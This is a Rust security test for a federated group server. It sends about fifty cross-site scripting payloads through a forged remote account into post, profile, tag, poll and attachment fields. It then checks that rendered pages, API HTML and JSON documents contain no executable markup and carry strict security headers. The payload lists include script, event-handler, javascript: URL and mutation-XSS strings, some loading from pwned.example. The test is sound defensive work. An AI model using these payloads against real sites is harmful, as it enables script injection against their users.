//! T13: nothing of what others write runs in anybody's browser.

use anyhow::ensure;
use guildhall_federation_tests::attacker::Forged;
use scraper::{Html, Selector};
use serde_json::json;

use crate::stage::{GROUP, Stage};

/// All of them call `pwned`, or would load something that does.
const HTML: [&str; 40] = [
    "<script>pwned()</script>",
    "<ScRiPt src=//pwned.example/x.js></sCrIpT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror\n=\npwned()>",
    "<img/src=x/onerror=pwned()>",
    "<img src=\"x\" ONERROR=\"pwned()\">",
    "<a href=\"javascript:pwned()\">x</a>",
    "<a href=\"JaVaScRiPt:pwned()\">x</a>",
    "<a href=\" &#1; javascript:pwned()\">x</a>",
    "<a href=\"java\nscript:pwned()\">x</a>",
    "<a href=\"&#106;avascript&colon;pwned()\">x</a>",
    "<a href=\"data:text/html,<script>pwned()</script>\">x</a>",
    "<a href=\"vbscript:pwned()\">x</a>",
    "<a href=\"//pwned.example\" target=_top onclick=pwned()>x</a>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href=\"javascript:pwned()\"><text>x</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mtext></p><img src=x onerror=pwned()></mtext></math>",
    "<math><mi//xlink:href=\"data:x,<script>pwned()</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=pwned()>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
    "<iframe srcdoc=\"<script>pwned()</script>\"></iframe>",
    "<iframe src=\"javascript:pwned()\"></iframe>",
    "<object data=\"data:text/html,<script>pwned()</script>\"></object>",
    "<embed src=\"//pwned.example\">",
    "<base href=\"//pwned.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:pwned()\">",
    "<link rel=stylesheet href=\"//pwned.example/x.css\">",
    "<style>@import '//pwned.example/x.css';</style>",
    "<p style=\"background:url(javascript:pwned())\">x</p>",
    "<p style=\"position:fixed;inset:0\" id=\"pwned\" class=\"pwned\">x</p>",
    "<form action=\"javascript:pwned()\"><button formaction=\"javascript:pwned()\">x</button></form>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<video><source onerror=pwned()></video>",
    "<template><script>pwned()</script></template>",
    "<!--><script>pwned()</script-->",
];

/// In places that are text.
const TEXT: [&str; 6] = [
    "<script>pwned()</script>",
    "\"><script>pwned()</script>",
    "' onmouseover='pwned()",
    "\" onmouseover=\"pwned()",
    "</title></textarea><img src=x onerror=pwned()>",
    "{{pwned()}}${pwned()}",
];

/// In places that are addresses.
const ADDRESSES: [&str; 5] = [
    "javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "https://a.example/\"onmouseover=\"pwned()",
    "https://a.example/x'><script>pwned()</script>",
    " javascript:pwned()",
];

/// What of a page could run or load something of the attacker's.
#[expect(clippy::unwrap_used, reason = "a selector that is written here")]
fn dangers(page: &str) -> Vec<String> {
    let html = Html::parse_document(page);
    let every = Selector::parse("*").unwrap();
    let mut found = Vec::new();
    for element in html.select(&every) {
        let name = element.value().name();
        if matches!(name, "iframe" | "object" | "embed" | "math" | "base" | "template" | "applet" | "frame") {
            found.push(format!("<{name}>"));
        }
        if matches!(name, "script" | "style" | "svg") && element.html().contains("pwned") {
            found.push(element.html());
        }
        for (attribute, value) in element.value().attrs() {
            let plain: String =
                value.to_lowercase().chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
            let is_scheme =
                ["javascript:", "data:text", "vbscript:"].iter().any(|bad| plain.starts_with(bad));
            let loads =
                matches!(attribute, "href" | "src" | "action" | "formaction" | "srcset" | "data" | "poster");
            let is_named =
                matches!(attribute, "style" | "id" | "class" | "srcdoc") && plain.contains("pwned");
            let leads_out = loads && name != "a" && plain.contains("pwned.example");
            if attribute.starts_with("on") || (loads && is_scheme) || is_named || leads_out {
                found.push(format!("<{name} {attribute}={value:?}>"));
            }
        }
    }
    found
}

#[tokio::test]
async fn what_others_write_runs_nowhere() -> anyhow::Result<()> {
    let stage = Stage::start().await?;
    let mut persona = stage.evil.person("painter")?;
    persona.document["name"] = json!(TEXT[1]);
    persona.document["summary"] = json!(HTML.join("\n"));
    persona.document["url"] = json!("javascript:pwned()");
    persona.document["icon"] = json!({ "type": "Image", "url": "https://a.example/x.svg\"onload=\"pwned()" });
    persona.document["image"] = json!({ "type": "Image", "url": ADDRESSES[1], "mediaType": "image/svg+xml" });
    stage.evil.serve(&persona.document);

    let mut contents: Vec<(String, serde_json::Value)> = Vec::new();
    for html in HTML {
        contents.push((format!("content {html}"), json!({ "content": html })));
    }
    for text in TEXT {
        contents.push((format!("name {text}"), json!({ "name": text })));
        contents.push((format!("summary {text}"), json!({ "summary": text, "sensitive": true })));
        contents.push((format!("tag {text}"), json!({ "tag": [{ "type": "Hashtag", "name": text, "href": ADDRESSES[0] }, { "type": "Emoji", "name": text, "icon": { "url": ADDRESSES[0] } }] })));
        contents.push((format!("poll {text}"), json!({ "type": "Question", "oneOf": [{ "type": "Note", "name": text }, { "type": "Note", "name": "b" }] })));
        contents.push((format!("place {text}"), json!({ "type": "Event", "name": "x", "startTime": "2026-01-01T00:00:00Z", "location": { "type": "Place", "name": text } })));
        contents.push((format!("language {text}"), json!({ "contentMap": { text: "<p>x</p>" } })));
    }
    for address in ADDRESSES {
        contents.push((
            format!("link {address}"),
            json!({ "attachment": [{ "type": "Link", "href": address, "name": TEXT[0] }] }),
        ));
        contents.push((format!("picture {address}"), json!({ "attachment": [{ "type": "Image", "url": address, "name": TEXT[3], "mediaType": "image/svg+xml" }] })));
        contents.push((
            format!("page {address}"),
            json!({ "url": address, "image": { "type": "Image", "url": address } }),
        ));
        contents.push((format!("Markdown {address}"), json!({ "source": { "mediaType": "text/markdown", "content": format!("[x]({address}) <img src=x onerror=pwned()>") } })));
    }
    let mut root = None;
    for (name, members) in &contents {
        let mut note = persona.note(&stage.group, "Harmless");
        if let (Some(into), Some(members)) = (note.as_object_mut(), members.as_object()) {
            into.extend(members.clone());
        }
        if let Some(root) = &root {
            // Mostly comments below one post, so that one page shows many.
            if note.get("name").is_none()
                && note["type"] == "Note"
                && !name.starts_with("link")
                && !name.starts_with('p')
            {
                note["inReplyTo"] = json!(root);
            }
        }
        let create = persona.activity("Create", note.clone());
        let told = stage.send(&stage.signed(&persona, &create)).await?;
        ensure!(told.status == 202, "{name}: {}", told.text());
        root = root.or_else(|| note["id"].as_str().map(str::to_owned));
    }
    stage.settled().await?;
    // Somebody of ours writes the same as Markdown.
    for html in HTML.iter().chain(&TEXT) {
        stage.maria.submit(GROUP, "By one of ours", html).await?;
    }

    let rows = stage.store.rows("SELECT id, kind FROM entries WHERE state = 'published'")?;
    ensure!(rows.len() >= contents.len(), "only {} of {}", rows.len(), contents.len());
    let mut wrong = Vec::new();
    let mut paths: Vec<String> = vec![
        format!("/groups/{GROUP}"),
        format!("/groups/{GROUP}?sort=new"),
        "/users/maria".to_owned(),
        "/".to_owned(),
    ];
    paths.push(format!("/users/painter@{}", stage.evil.host()));
    for row in &rows {
        let (id, kind) = row.split_once('|').unwrap_or((row, ""));
        paths.push(format!("/{kind}s/{id}"));
    }
    let mut shown = 0;
    for path in &paths {
        let page = Forged::get(stage.server.host(), path).set("Accept", "text/html");
        let told = stage.send(&page).await?;
        if told.status != 200 {
            continue;
        }
        shown += 1;
        wrong.extend(dangers(&told.text()).into_iter().map(|danger| format!("{path}: {danger}")));
        let policy = told.header("content-security-policy").unwrap_or_default();
        let is_strict = policy.contains("object-src 'none'")
            && policy.contains("base-uri 'none'")
            && !policy.contains("unsafe");
        ensure!(is_strict, "{path}: {policy}");
        ensure!(told.header("x-content-type-options") == Some("nosniff"), "{path}");
    }
    ensure!(shown > rows.len() / 2, "{shown} pages of {}", paths.len());
    // The API gives HTML for pages to embed, and the documents for other servers to.
    let everything = stage.server.anonymous();
    for post in everything.list(&format!("/groups/{GROUP}/posts")).await? {
        for comment in
            everything.list(&format!("/posts/{}/comments", post["id"].as_str().unwrap_or_default())).await?
        {
            wrong.extend(dangers(comment["content_html"].as_str().unwrap_or_default()));
        }
        wrong.extend(dangers(post["content_html"].as_str().unwrap_or_default()));
        for field in ["link_url", "image_url", "url"] {
            let address = post[field].as_str().unwrap_or("https:");
            ensure!(address.starts_with("http"), "{field}: {address}");
        }
    }
    for path in &paths {
        let told = stage.send(&Forged::get(stage.server.host(), path)).await?;
        if told.status == 200 && told.header("content-type").is_some_and(|kind| kind.contains("json")) {
            for field in ["content", "summary"] {
                wrong.extend(
                    dangers(told.json()[field].as_str().unwrap_or_default())
                        .into_iter()
                        .map(|danger| format!("{path} as a document: {danger}")),
                );
            }
        }
    }
    ensure!(wrong.is_empty(), "{} faults:\n{}", wrong.len(), wrong.join("\n"));
    Ok(())
}
